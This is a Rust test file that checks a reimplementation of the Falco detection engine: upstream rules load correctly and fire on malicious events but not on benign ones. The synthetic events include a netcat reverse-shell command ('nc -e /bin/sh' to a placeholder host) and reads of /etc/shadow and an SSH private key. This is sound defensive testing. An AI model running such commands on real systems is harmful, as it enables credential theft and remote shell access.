//! The upstream Falco rule files load unmodified, with Falco's counts and evt.type sets, and
//! upstream rules fire on the events they describe (and not on benign controls).

mod common;

use std::collections::BTreeMap;

use palisade_rules::testing::MapEvent;
use palisade_rules::{Loaded, Loader, RuleMatching, Ruleset, Source, Value};

fn load(files: &[&str]) -> Loaded {
    let dir = common::falco_dir();
    let mut l = Loader::new();
    for f in files {
        l.add_file(dir.join(f)).expect("read rules file");
    }
    l.compile()
}

const SYSCALL_FILES: [&str; 3] = [
    "rules/falco_rules.yaml",
    "rules/falco-incubating_rules.yaml",
    "rules/falco-sandbox_rules.yaml",
];

fn errors(l: &Loaded) -> Vec<String> {
    l.report.errors().map(|d| d.to_string()).collect()
}

#[test]
fn syscall_files_load_together_without_errors() {
    let l = load(&SYSCALL_FILES);
    assert_eq!(errors(&l), Vec::<String>::new());
    assert_eq!((l.counts.rules, l.counts.macros, l.counts.lists), (93, 315, 118));
    let rs = l.ruleset.expect("ruleset");
    assert_eq!(rs.rules().iter().filter(|r| !r.enabled).count(), 12);
}

#[test]
fn k8s_audit_file_loads_without_errors() {
    let l = load(&["k8saudit/k8s_audit_rules.yaml"]);
    assert_eq!(errors(&l), Vec::<String>::new());
    assert_eq!((l.counts.rules, l.counts.macros, l.counts.lists), (48, 45, 18));
    let rs = l.ruleset.expect("ruleset");
    assert!(rs.rules().iter().all(|r| r.source == Source::K8sAudit));
}

#[test]
fn stable_file_alone_loads() {
    let l = load(&SYSCALL_FILES[..1]);
    assert_eq!(errors(&l), Vec::<String>::new());
    assert_eq!((l.counts.rules, l.counts.macros, l.counts.lists), (25, 87, 49));
}

/// The per-rule event-type sets of analysis.md §12 (computed by a port of libsinsp's
/// ppm_codes.cpp) must equal ours for every syscall rule.
#[test]
fn event_type_sets_match_falco() {
    let analysis = std::fs::read_to_string(common::falco_dir().join("conformance/analysis.md")).expect("analysis");
    let mut expected: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let section = analysis.split("## 12.").nth(1).expect("section 12");
    for line in section.lines().filter(|l| l.starts_with("| ") && l.contains("| syscall |")) {
        let cols: Vec<&str> = line.split('|').map(str::trim).collect();
        let mut types: Vec<String> = cols[5].split(", ").map(str::to_owned).collect();
        types.sort();
        expected.insert(cols[1].to_owned(), types);
    }
    assert_eq!(expected.len(), 93);
    let rs = load(&SYSCALL_FILES).ruleset.expect("ruleset");
    let mut mismatches = Vec::new();
    for (name, want) in &expected {
        let rule = rs.rule(name).unwrap_or_else(|| panic!("rule {name} missing"));
        let mut got: Vec<String> = rule.event_types.names().into_iter().map(str::to_owned).collect();
        got.sort();
        if &got != want {
            mismatches.push(format!("{name}: want {want:?} got {got:?}"));
        }
    }
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
}

fn stable() -> Ruleset {
    let mut rs = load(&SYSCALL_FILES).ruleset.expect("ruleset");
    rs.set_rule_matching(RuleMatching::All);
    rs
}

fn process<'e>(e: &'e mut MapEvent, name: &str, cmdline: &str, parent: &str, container: bool) -> &'e mut MapEvent {
    e.set_str("proc.name", name)
        .set_str("proc.exepath", &format!("/usr/bin/{name}"))
        .set_str("proc.exe", &format!("/usr/bin/{name}"))
        .set_str("proc.cmdline", cmdline)
        .set_str("proc.args", cmdline.split_once(' ').map_or("", |(_, a)| a))
        .set_str("proc.pname", parent)
        .set_str("proc.pcmdline", parent)
        .set("proc.aname", vec![Value::string(parent.into()), Value::string("systemd".into())])
        .set_str("proc.aname[1]", parent)
        .set_str("proc.aname[2]", "systemd")
        .set_str("user.name", "root")
        .set_u64("user.uid", 0)
        .set_str("container.id", if container { "3ad7b26ded6d" } else { "host" })
        .set_str("container.image.repository", if container { "docker.io/library/debian" } else { "" })
        .set_u64("proc.tty", 0)
}

fn open(path: &str, read: bool, write: bool) -> MapEvent {
    let mut e = MapEvent::new(Source::Syscall);
    let (dir, file) = path.rsplit_once('/').expect("absolute path");
    e.set_str("evt.type", "openat")
        .set_i64("evt.rawres", 3)
        .set_str("fd.name", path)
        .set_str("fd.nameraw", path)
        .set_str("fd.directory", if dir.is_empty() { "/" } else { dir })
        .set_str("fd.filename", file)
        .set_str("fd.typechar", "f")
        .set_i64("fd.num", 3)
        .set_str("evt.arg.flags", if write { "O_WRONLY|O_CREAT" } else { "O_RDONLY" })
        .set("evt.is_open_read", vec![Value::Bool(read)])
        .set("evt.is_open_write", vec![Value::Bool(write)]);
    e
}

fn fired(rs: &Ruleset, e: &MapEvent) -> Vec<String> {
    let mut out = Vec::new();
    rs.evaluate(Source::Syscall, e, &mut out);
    out.iter().map(|r| r.name.clone()).collect()
}

#[test]
fn read_sensitive_file_untrusted_fires_for_cat_not_for_hosts() {
    let rs = stable();
    let mut e = open("/etc/shadow", true, false);
    process(&mut e, "cat", "cat /etc/shadow", "bash", false);
    assert!(fired(&rs, &e).contains(&"Read sensitive file untrusted".to_owned()), "{:?}", fired(&rs, &e));
    let mut benign = open("/etc/hosts", true, false);
    process(&mut benign, "cat", "cat /etc/hosts", "bash", false);
    assert!(!fired(&rs, &benign).contains(&"Read sensitive file untrusted".to_owned()));
}

#[test]
fn netcat_rce_fires_only_in_a_container() {
    let rs = stable();
    let mut e = MapEvent::new(Source::Syscall);
    e.set_str("evt.type", "execve").set_i64("evt.rawres", 0);
    process(&mut e, "nc", "nc -e /bin/sh example.com 22", "bash", true);
    assert!(fired(&rs, &e).contains(&"Netcat Remote Code Execution in Container".to_owned()), "{:?}", fired(&rs, &e));
    let mut host = MapEvent::new(Source::Syscall);
    host.set_str("evt.type", "execve").set_i64("evt.rawres", 0);
    process(&mut host, "nc", "nc -e /bin/sh example.com 22", "bash", false);
    assert!(!fired(&rs, &host).contains(&"Netcat Remote Code Execution in Container".to_owned()));
}

#[test]
fn index_on_and_off_give_the_same_matches() {
    let mut rs = stable();
    let mut events = Vec::new();
    for (path, w) in [("/etc/shadow", false), ("/etc/passwd", true), ("/tmp/x", true), ("/root/.ssh/id_rsa", false)] {
        let mut e = open(path, !w, w);
        process(&mut e, "vi", "vi x", "bash", true);
        events.push(e);
    }
    let with: Vec<Vec<String>> = events.iter().map(|e| fired(&rs, e)).collect();
    rs.set_use_index(false);
    let without: Vec<Vec<String>> = events.iter().map(|e| fired(&rs, e)).collect();
    assert_eq!(with, without);
    assert!(with.iter().any(|m| !m.is_empty()), "some event must fire a rule: {with:?}");
}
